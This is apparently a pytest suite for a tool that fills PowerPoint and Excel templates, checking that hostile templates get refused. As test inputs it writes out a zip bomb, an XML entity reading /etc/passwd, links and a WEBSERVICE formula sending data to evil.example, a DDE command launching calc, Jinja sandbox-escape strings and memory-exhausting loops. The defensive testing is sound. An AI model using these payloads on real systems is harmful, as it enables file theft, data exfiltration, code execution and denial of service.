"""What no template may bring along, each attack with its message: macros, links that fetch, bombs, entities, code."""

from __future__ import annotations

import io
import time
import zipfile
from collections.abc import Callable
from typing import Any

import pytest

from plandocs.errors import PlanError, Problem
from plandocs.render.package import Package
from plandocs.render.relationships import OFFICE
from tests.render.excel import test_hostile as books
from tests.render.excel.hostile import corporate
from tests.render.powerpoint import kickoffs
from tests.render.powerpoint.hostile import add_box, new_slide, office, with_slides

DECK, BOOK = "deck", "book"
MAKE: dict[str, Callable[[], bytes]] = {DECK: office, BOOK: corporate}
BUILD: dict[str, Callable[[bytes], bytes]] = {DECK: kickoffs.built, BOOK: books.made}
MAIN = {DECK: "/ppt/presentation.xml", BOOK: "/xl/workbook.xml"}
PAGE = {DECK: "/ppt/slideLayouts/slideLayout6.xml", BOOK: "/xl/worksheets/sheet1.xml"}
KINDS = (DECK, BOOK)


def refused(kind: str, template: bytes) -> tuple[Problem, ...]:
    with pytest.raises(PlanError) as caught:
        BUILD[kind](template)
    assert all(problem.path for problem in caught.value.problems)
    return caught.value.problems


def changed(kind: str, change: Callable[[Package], object]) -> bytes:
    package = Package.open(MAKE[kind](), name="made")
    change(package)
    return package.to_bytes()


@pytest.mark.parametrize("kind", KINDS)
def test_a_zip_bomb_is_refused_before_it_is_unpacked(kind: str) -> None:
    out = io.BytesIO(MAKE[kind]())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for number in range(3):
            archive.writestr(f"customXml/item{number}.xml", b"\0" * (200 << 20))
    kickoffs.kickoff()
    started = time.perf_counter()
    [problem] = refused(kind, out.getvalue())
    assert time.perf_counter() - started < 2
    assert problem.rule == "package-too-large"


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("part", ["main", "page", "theme", "unread"])
def test_external_and_swelling_entities_are_refused(kind: str, part: str) -> None:
    evil = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;">]>'
    theme = {DECK: "/ppt/theme/theme1.xml", BOOK: "/xl/theme/theme1.xml"}[kind]
    name = {"main": MAIN[kind], "page": PAGE[kind], "theme": theme, "unread": "/customXml/item1.xml"}[part]

    def plant(package: Package) -> None:
        data = package.parts.get(name, b'<?xml version="1.0"?><x/>')
        head, _, body = data.partition(b"?>")
        package.add_part(name, package.content_type(name) or "application/xml", head + b"?>" + evil + body)
        if part == "unread":
            package.rels(MAIN[kind]).add("customXml", name)

    [problem] = refused(kind, changed(kind, plant))
    assert problem.rule == "package-bad-xml"
    assert problem.where == name
    assert "root:" not in problem.message


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(
    ("relation", "target", "what"),
    [
        ("image", "https://evil.example/pixel.png", "a picture"),
        ("image", "file://///evil.example/share/p.png", "a picture"),
        ("oleObject", "file:///c:/secret.xlsx", "an embedded object"),
        ("video", "https://evil.example/film.mp4", "a film"),
        ("attachedTemplate", "https://evil.example/t.dotm", "another template"),
        ("frame", "https://evil.example/", "another document"),
    ],
)
def test_what_is_fetched_from_elsewhere_is_refused(kind: str, relation: str, target: str, what: str) -> None:
    data = changed(kind, lambda package: package.rels(PAGE[kind]).add(relation, target, external=True))
    [problem] = refused(kind, data)
    assert problem.rule == "template-external"
    assert what in problem.message
    assert target in problem.message
    assert problem.where == {DECK: "layout part 6", BOOK: PAGE[BOOK]}[kind]
    assert problem.fix


def test_all_finds_are_told_at_once() -> None:
    def plant(package: Package) -> None:
        for number in (1, 2, 3):
            package.rels(f"/ppt/slideLayouts/slideLayout{number}.xml").add("image", "http://x.example/", external=True)

    assert len(refused(DECK, changed(DECK, plant))) == 3


def test_a_link_that_a_reader_clicks_is_left_alone() -> None:
    def make(presentation: Any) -> None:
        shape = add_box(new_slide(presentation, "Contact", "plandocs: keep"), "our site")
        shape.click_action.hyperlink.address = "https://vendor.example/"

    data = kickoffs.built(with_slides(make))
    slide = next(item for item in kickoffs.opened(data).slides if item.shapes.title.text == "Contact")
    assert slide.shapes[1].click_action.hyperlink.address == "https://vendor.example/"


def test_a_linked_workbook_is_refused() -> None:
    def plant(package: Package) -> None:
        kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
        xml = (
            '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook'
            f' xmlns:r="{OFFICE}" r:id="rId1"/></externalLink>'
        )
        part = package.add_part("/xl/externalLinks/externalLink1.xml", kind, xml.encode())
        package.rels(part).add("externalLinkPath", "file:///c:/rates.xlsx", external=True)
        package.rels(MAIN[BOOK]).add("externalLink", part)

    [problem] = refused(BOOK, changed(BOOK, plant))
    assert problem.where == "external link 1"
    assert "another workbook" in problem.message
    assert problem.fix == "break the link: Data, Edit Links, Break Link"


@pytest.mark.parametrize(
    "formula", ['WEBSERVICE("https://evil.example/?"&B2)', "cmd|'/c calc'!A0", 'RTD("evil",,"x")', 'CALL("x","y","z")']
)
def test_a_formula_that_asks_another_program_is_refused(formula: str) -> None:
    def add(book: Any) -> None:
        book["Cover"]["D4"] = f"={formula}"

    [problem] = refused(BOOK, corporate(add))
    assert (problem.rule, problem.where) == ("template-external", "sheet 'Cover'!D4")


@pytest.mark.parametrize("kind", KINDS)
def test_a_macro_enabled_file_is_refused(kind: str) -> None:
    macro = {
        DECK: "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
        BOOK: "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    }
    [problem] = refused(kind, changed(kind, lambda package: package.set_content_type(MAIN[kind], macro[kind])))
    assert problem.rule == "template-macros"
    assert problem.fix == {DECK: "save it as .pptx, without macros", BOOK: "save it as .xlsx, without macros"}[kind]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(
    ("part", "content_type", "rule"),
    [
        ("vbaProject.bin", "application/vnd.ms-office.vbaProject", "template-macros"),
        ("activeX1.xml", "application/vnd.ms-office.activeX+xml", "template-active-content"),
    ],
)
def test_macros_and_controls_in_a_plain_file_are_refused(kind: str, part: str, content_type: str, rule: str) -> None:
    def plant(package: Package) -> None:
        name = package.add_part(f"{MAIN[kind].rpartition('/')[0]}/{part}", content_type, b"<x/>")
        package.rels(MAIN[kind]).add("vbaProject", name)

    [problem] = refused(kind, changed(kind, plant))
    assert problem.rule == rule
    assert part in problem.where


def test_data_connections_are_refused() -> None:
    def plant(package: Package) -> None:
        kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"
        package.add_part("/xl/connections.xml", kind, b"<connections/>")
        package.rels(MAIN[BOOK]).add("connections", "/xl/connections.xml")

    [problem] = refused(BOOK, changed(BOOK, plant))
    assert (problem.rule, problem.where) == ("template-external", "/xl/connections.xml")


@pytest.mark.parametrize("kind", KINDS)
def test_a_template_of_the_other_program_or_an_old_one_is_refused(kind: str) -> None:
    other = BOOK if kind == DECK else DECK
    assert refused(kind, MAKE[other]())[0].rule == "template-format"
    assert refused(kind, bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600)[0].rule == "package-encrypted"


@pytest.mark.parametrize("kind", KINDS)
def test_office_templates_are_taken_for_documents(kind: str) -> None:
    """A .potx and a .xltx become a .pptx and a .xlsx."""
    types = {
        DECK: "application/vnd.openxmlformats-officedocument.presentationml.template.main+xml",
        BOOK: "application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml",
    }
    data = BUILD[kind](changed(kind, lambda package: package.set_content_type(MAIN[kind], types[kind])))
    assert ".template." not in Package.open(data, name="x").content_type(MAIN[kind])


CODE = (
    "{{ ''.__class__.__mro__ }}",
    "{{ project['__init__'] }}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ project|attr('__class__') }}",
    "{% import 'os' as os %}",
    "{% include '/etc/passwd' %}",
    "{{ self._TemplateReference__context }}",
    "{{ project.name.format }}",
    "{{ lipsum() }}",
)

REFUSED = (
    *("template-syntax", "template-value", "template-refused"),
    *("template-unknown-name", "template-unknown-filter"),
)


@pytest.mark.parametrize("code", CODE)
def test_code_in_a_slides_text_is_not_run(code: str) -> None:
    template = with_slides(lambda presentation: new_slide(presentation, code, "plandocs: keep"))
    [problem, *_] = refused(DECK, template)
    assert problem.where == "slide 1, shape 'Title 1'"
    assert problem.rule in REFUSED


@pytest.mark.parametrize("code", CODE)
def test_code_in_a_cell_is_not_run(code: str) -> None:
    def add(book: Any) -> None:
        book["Cover"]["D4"] = code

    problem = refused(BOOK, corporate(add))[0]
    assert problem.where == "sheet 'Cover'!D4"
    assert problem.rule in REFUSED


@pytest.mark.parametrize(
    "loop",
    [
        "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
        "{{ 'x' * 9999999999 }}",
        "{{ 9 ** 9 ** 9 }}",
        "{{ '%9999999999d' % 1 }}",
        "{% for a in phases recursive %}{{ loop(phases) }}{% endfor %}",
        "".join(f"{{% for {name} in tasks %}}" for name in "abcdef") + "x" + "{% endfor %}" * 6,
        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
        "{{ project.summary|join(project.summary)|join(project.summary)|join(project.summary)|join(project.summary) }}",
    ],
)
def test_what_would_run_for_ever_or_fill_the_memory_ends_at_once(loop: str) -> None:
    template = with_slides(lambda presentation: new_slide(presentation, loop, "plandocs: keep"))
    started = time.perf_counter()
    problem = refused(DECK, template)[0]
    assert time.perf_counter() - started < 2
    assert problem.where == "slide 1, shape 'Title 1'"
    assert problem.rule in REFUSED


@pytest.mark.parametrize("kind", KINDS)
def test_a_template_with_a_part_missing_is_refused_with_its_name(kind: str) -> None:
    [problem, *_] = refused(kind, changed(kind, lambda package: package.parts.pop(PAGE[kind])))
    assert any(PAGE[kind] in found.message for found in refused(kind, changed(kind, lambda p: p.parts.pop(PAGE[kind]))))
    assert problem.rule.startswith("package-")
    assert problem.fix


@pytest.mark.parametrize(
    ("kind", "part", "old", "new", "rule"),
    [
        (DECK, "/ppt/presentation.xml", b'r:id="rId1"', b'r:id="rId99"', "package-unknown-relationship"),
        (DECK, "/ppt/slideMasters/slideMaster1.xml", b' cx="8229600"', b' cx="wide"', "drawing-size"),
        (BOOK, "/xl/worksheets/sheet1.xml", b' s="', b' s="99', "sheets-style-index"),
    ],
)
def test_a_template_with_a_wrong_number_is_refused_before_it_is_read(
    kind: str, part: str, old: bytes, new: bytes, rule: str
) -> None:
    package = Package.open(MAKE[kind](), name="made")
    data = package.parts[part]
    if old not in data:
        data = data.replace(b'<c r="B2"', b'<c r="B2" s="0"')
    assert old in data
    package.set_part(part, data.replace(old, new, 1))
    found = refused(kind, package.to_bytes())
    assert rule in {problem.rule for problem in found}
    assert all(problem.fix for problem in found)
